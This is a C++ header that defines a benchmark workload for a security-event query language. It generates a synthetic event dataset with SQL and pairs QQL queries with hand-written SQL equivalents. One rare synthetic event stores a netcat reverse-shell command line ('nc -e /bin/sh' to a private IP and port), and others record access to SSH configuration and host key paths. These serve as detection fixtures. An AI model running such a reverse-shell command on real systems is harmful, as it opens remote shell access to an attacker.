// The QQL benchmark's workload, shared by the benchmark (query_bench.cc, 10
// million events) and the plan test (tests/integration/query_plan_test.cc, a
// small copy of the same dataset): one generated dataset and a fixed set of
// queries, each as QQL and as the SQL an engineer would write by hand for it.
//
//   tx.exec_params(DatasetInsertSql(), tenant, first, last, end, span_s, total);
//   for (const WorkloadQuery& q : WorkloadQueries()) { ... q.qql ... q.hand_sql ... }
//
// The dataset is deterministic in i (no random()), so a value's frequency is
// known: process "nc" is 1 event in 10,007; rule r-0042 1 in 499; container
// c-0123 1 in 1,999; 10.9.0.0/16 1 in 256 network events; 192.168.77.0/24 and
// /etc/ssh/ a few hundred in 10 million. The moduli are chosen so that
// category (i mod 20), action, rule and container are independent: with
// moduli sharing factors, a rule could only ever be one category.
#pragma once

#include <chrono>
#include <ctime>
#include <iterator>
#include <string>
#include <utility>
#include <vector>

namespace portcullis::bench {

// "2026-11-28T10:00:00Z": the dataset's times as parameters.
inline std::string UtcText(std::chrono::system_clock::time_point t) {
  const std::time_t s = std::chrono::system_clock::to_time_t(t);
  std::tm tm{};
  gmtime_r(&s, &tm);
  char buf[32];
  std::strftime(buf, sizeof buf, "%Y-%m-%dT%H:%M:%SZ", &tm);
  return buf;
}

// Rows first..last (of total, spread evenly over span_s seconds ending at
// end; row 0 is the newest) of one tenant. Parameters: $1 tenant uuid, $2
// first, $3 last (bigint), $4 end (timestamptz), $5 span in seconds, $6 total.
// Run by the indexer's role (it bypasses RLS and may only INSERT), after
// portcullis_ensure_event_partitions covers the span.
inline std::string DatasetInsertSql() {
  return R"sql(
INSERT INTO events (tenant_id, event_id, ts, agent_id, container_id, image, hostname, pid, ppid,
  uid, gid, executable, cmdline, syscall, category, action, enforced, result, rule_id, policy_id,
  policy_version, file_path, file_operation, net_direction, net_protocol, remote_ip, remote_port,
  local_port, labels)
SELECT $1::uuid, gen_random_uuid(),
  $4::timestamptz - make_interval(secs => i * $5::float8 / $6::float8),
  ('00000000-0000-4000-8000-' || lpad(to_hex(i % 500), 12, '0'))::uuid,
  'c-' || lpad(((i * 7) % 1999)::text, 4, '0'),
  'registry.example/app' || (i % 50) || ':1.' || (i % 7),
  'node-' || (i % 40),
  100 + (i % 30000)::int, 1 + (i % 97)::int, (i % 5) * 1000, (i % 5) * 1000,
  CASE WHEN i % 10007 = 0 THEN '/usr/bin/nc' ELSE '/usr/bin/prog' || ((i * 31) % 200) END,
  CASE WHEN i % 10007 = 0 THEN 'nc -e /bin/sh 10.9.1.1 4444'
       ELSE 'prog' || ((i * 31) % 200) || ' --worker ' || (i % 16) END,
  CASE c WHEN 'file' THEN 'openat' WHEN 'network' THEN 'connect' ELSE 'execve' END,
  c,
  CASE WHEN a < 2 THEN 'deny' WHEN a < 7 THEN 'monitor' ELSE 'allow' END,
  true, CASE WHEN a < 2 THEN -1 ELSE 0 END,
  'r-' || lpad(((i * 17) % 499)::text, 4, '0'),
  '00000000-0000-4000-8000-00000000beef'::uuid, 1 + (i % 3),
  CASE WHEN c <> 'file' THEN NULL
       WHEN i % 5003 = 0 THEN '/etc/ssh/sshd_config'
       WHEN i % 5009 = 0 THEN '/etc/ssh/ssh_host_ed25519_key'
       ELSE '/var/lib/app' || (i % 100) || '/data/' || ((i * 3) % 1000) || '.db' END,
  CASE WHEN c <> 'file' THEN NULL WHEN i % 4 = 0 THEN 'write' ELSE 'read' END,
  CASE WHEN c <> 'network' THEN NULL WHEN i % 9 = 0 THEN 'inbound' ELSE 'outbound' END,
  CASE WHEN c = 'network' THEN 'tcp' END,
  CASE WHEN c <> 'network' THEN NULL
       WHEN i % 49999 = 0 THEN ('192.168.77.' || (i % 250 + 1))::inet
       ELSE ('10.' || ((i * 7) % 256) || '.' || ((i * 11) % 256) || '.' || (i % 250 + 1))::inet END,
  CASE WHEN c <> 'network' THEN NULL WHEN i % 10 = 0 THEN 22 WHEN i % 10 < 6 THEN 443 ELSE 5432 END,
  CASE WHEN c = 'network' THEN 30000 + (i % 20000)::int END,
  jsonb_build_object('app', 'svc' || (i % 20), 'env', CASE WHEN i % 3 = 0 THEN 'staging' ELSE 'prod' END)
FROM generate_series($2::bigint, $3::bigint) AS i,
  LATERAL (SELECT CASE WHEN i % 20 < 12 THEN 'file' WHEN i % 20 < 17 THEN 'network'
                       ELSE 'process' END AS c,
                  (i * 7919) % 1009 % 10 AS a) AS derived
)sql";
}

// The columns of an event listing, as QQL lists them (query-lang's field
// catalog, in its order): the hand-written listings select the same.
inline constexpr const char* kListingColumns =
    R"(ts AS "event.time", event_id AS "event.id", action AS "event.action", )"
    R"(category AS "event.category", syscall AS "event.syscall", result AS "event.result", )"
    R"(enforced AS "event.enforced", process_name AS "process.name", )"
    R"(executable AS "process.path", pid AS "process.pid", ppid AS "process.ppid", )"
    R"(uid AS "process.uid", gid AS "process.gid", cmdline AS "process.cmdline", )"
    R"(file_path AS "file.path", file_operation AS "file.operation", )"
    R"(net_direction AS "network.direction", net_protocol AS "network.protocol", )"
    R"(remote_ip AS "network.remote.ip", remote_port AS "network.remote.port", )"
    R"(local_ip AS "network.local.ip", local_port AS "network.local.port", )"
    R"(container_id AS "container.id", image AS "container.image", agent_id AS "agent.id", )"
    R"(hostname AS "host.name", policy_id AS "policy.id", policy_version AS "policy.version", )"
    R"(rule_id AS "rule.id", labels AS "labels")";

struct WorkloadQuery {
  std::string name;
  std::string qql;
  // The range: the last `days` days of the dataset (partition pruning).
  int days = 1;
  // Selective: few matches, answered through an index in tens of ms. The plan
  // test checks that such a query scans no partition sequentially and uses
  // one of `indexes` (schema/migrations/0006_*.sql).
  bool selective = false;
  std::vector<std::string> indexes;
  std::string column;  // the index condition must use it (not only tenant_id)
  // The same question in SQL, by hand: $1 tenant, $2 from, $3 to. Written for
  // row-level security as an expert would: ranges with leakproof operators
  // (BETWEEN, ~>=~) where LIKE and <<= could not use an index.
  std::string hand_sql;
};

inline std::vector<WorkloadQuery> WorkloadQueries() {
  const std::string listing =
      std::string("SELECT ") + kListingColumns +
      "\nFROM events\nWHERE tenant_id = $1 AND ts >= $2 AND ts < $3\n  AND ";
  const std::string newest = "\nORDER BY ts DESC, event_id DESC\nLIMIT 100";
  const std::string range = "FROM events WHERE tenant_id = $1 AND ts >= $2 AND ts < $3 AND ";
  return {
      {.name = "process name",
       .qql = "process.name:nc",
       .days = 10,
       .selective = true,
       .indexes = {"events_tenant_process_name"},
       .column = "process_name",
       .hand_sql = listing + "process_name = 'nc'" + newest},
      {.name = "rule and action",
       .qql = "rule.id:r-0042 and event.action:deny",
       .days = 10,
       .selective = true,
       .indexes = {"events_tenant_rule"},
       .column = "rule_id",
       .hand_sql = listing + "rule_id = 'r-0042' AND action = 'deny'" + newest},
      {.name = "container, network",
       .qql = "container.id:c-0123 and event.category:network",
       .days = 10,
       .selective = true,
       .indexes = {"events_tenant_container"},
       .column = "container_id",
       .hand_sql = listing + "container_id = 'c-0123' AND category = 'network'" + newest},
      {.name = "CIDR /24 (rare)",
       .qql = "network.remote.ip:192.168.77.0/24",
       .days = 10,
       .selective = true,
       .indexes = {"events_tenant_remote_ip"},
       .column = "remote_ip",
       .hand_sql = listing + "remote_ip BETWEEN '192.168.77.0' AND '192.168.77.255'" + newest},
      {.name = "CIDR /16",
       .qql = "network.remote.ip:10.9.0.0/16",
       .days = 1,
       .selective = true,
       .indexes = {"events_tenant_remote_ip"},
       .column = "remote_ip",
       .hand_sql = listing + "remote_ip BETWEEN '10.9.0.0' AND '10.9.255.255'" + newest},
      {.name = "path wildcard",
       .qql = "file.path:/etc/ssh/*",
       .days = 10,
       .selective = true,
       .indexes = {"events_tenant_file_path"},
       .column = "file_path",
       .hand_sql = listing +
                   "file_path ~>=~ '/etc/ssh/' AND file_path ~<~ '/etc/ssh0' AND file_path LIKE "
                   "'/etc/ssh/%'" +
                   newest},
      {.name = "selective count by",
       .qql = "process.name:nc | count by container.id",
       .days = 10,
       .selective = true,
       .indexes = {"events_tenant_process_name"},
       .column = "process_name",
       .hand_sql = "SELECT container_id AS \"container.id\", count(*) AS \"count\"\n" + range +
                   "process_name = 'nc'\nGROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 10000"},
      {.name = "count by rule (24h)",
       .qql = "event.action:deny | count by rule.id",
       .hand_sql = "SELECT rule_id AS \"rule.id\", count(*) AS \"count\"\n" + range +
                   "action = 'deny'\nGROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 10000"},
      {.name = "top ports (24h)",
       .qql = "event.category:network | top 10 network.remote.port",
       .hand_sql = "SELECT remote_port AS \"network.remote.port\", count(*) AS \"count\"\n" +
                   range + "category = 'network'\nGROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 10"},
      {.name = "timechart 1h (24h)",
       .qql = "event.category:file | timechart 1h",
       .hand_sql = "SELECT date_bin('1 hour', ts, TIMESTAMPTZ '1970-01-01T00:00:00Z') AS \"time\", "
                   "count(*) AS \"count\"\n" +
                   range + "category = 'file'\nGROUP BY 1 ORDER BY 1"},
  };
}

}  // namespace portcullis::bench
